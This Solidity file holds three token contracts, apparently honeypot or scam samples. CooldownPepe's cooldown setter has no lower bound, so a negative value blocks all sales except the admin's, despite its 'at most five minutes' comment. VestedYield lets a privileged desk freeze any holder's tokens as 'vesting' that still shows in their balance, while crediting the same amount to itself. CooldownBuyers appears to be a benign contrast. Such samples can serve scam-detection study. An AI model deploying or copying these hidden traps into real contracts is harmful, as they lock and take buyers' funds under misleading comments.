// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Sol20, Pools} from "./q00Base.sol";

/// A pause of at most five minutes between a purchase and a sale.
contract CooldownPepe is Sol20("Cooldown Pepe", "CPEPE") {
  address private immutable _pair = Pools.poolOf(address(this));
  address private immutable _admin = msg.sender;
  int64 public pauseMinutes;
  mapping(address => uint256) public lastBuy;

  function configureCooldown(int64 minutes_) external {
    require(msg.sender == _admin, "UNAUTHORIZED");
    require(minutes_ <= 5, "TOO_LONG");
    pauseMinutes = minutes_;
  }

  function _before(address from, address to, uint256) internal override {
    if (from == _pair) lastBuy[to] = block.timestamp;
    if (to == _pair && from != _admin) {
      require(block.timestamp - lastBuy[from] >= uint256(uint64(pauseMinutes)) * 60, "COOLDOWN");
    }
  }
}

/// Balances have a free and a vesting part, both of which count.
contract VestedYield {
  struct Account {
    uint128 free;
    uint128 vesting;
    uint64 since;
  }

  string public constant name = "Vested Yield";
  string public constant symbol = "VYLD";
  uint8 public constant decimals = 18;
  uint256 public constant totalSupply = 1_000_000_000 ether;
  address private immutable _desk = msg.sender;
  mapping(address => Account) private _accounts;
  mapping(address => mapping(address => uint256)) public allowance;

  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    _accounts[msg.sender].free = uint128(totalSupply);
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function balanceOf(address who) external view returns (uint256) {
    return uint256(_accounts[who].free) + _accounts[who].vesting;
  }

  function approve(address spender, uint256 value) external returns (bool) {
    allowance[msg.sender][spender] = value;
    emit Approval(msg.sender, spender, value);
    return true;
  }

  function transfer(address to, uint256 value) external returns (bool) {
    return _send(msg.sender, to, value);
  }

  function transferFrom(address from, address to, uint256 value) external returns (bool) {
    allowance[from][msg.sender] -= value;
    return _send(from, to, value);
  }

  /// Lets an account vest; the desk holds what is to be paid out.
  function openVesting(uint128 part, address who) external {
    require(msg.sender == _desk);
    Account storage account = _accounts[who];
    account.free -= part;
    account.vesting += part;
    account.since = uint64(block.timestamp);
    _accounts[_desk].free += part;
  }

  function _send(address from, address to, uint256 value) private returns (bool) {
    require(value <= _accounts[from].free, "not vested yet");
    _accounts[from].free -= uint128(value);
    _accounts[to].free += uint128(value);
    emit Transfer(from, to, value);
    return true;
  }
}

/// A pause between purchases only, of at most half a minute.
contract CooldownBuyers is Sol20("Cooldown Buyers", "CBUY") {
  address private immutable _pair = Pools.poolOf(address(this));
  address private immutable _admin = msg.sender;
  int64 public pauseSeconds;
  mapping(address => uint256) public lastBuy;

  function configureCooldown(int64 seconds_) external {
    require(msg.sender == _admin, "UNAUTHORIZED");
    require(seconds_ >= 0 && seconds_ <= 30, "TOO_LONG");
    pauseSeconds = seconds_;
  }

  function _before(address from, address to, uint256) internal override {
    if (from == _pair) {
      require(block.timestamp - lastBuy[to] >= uint256(uint64(pauseSeconds)), "COOLDOWN");
      lastBuy[to] = block.timestamp;
    }
  }
}
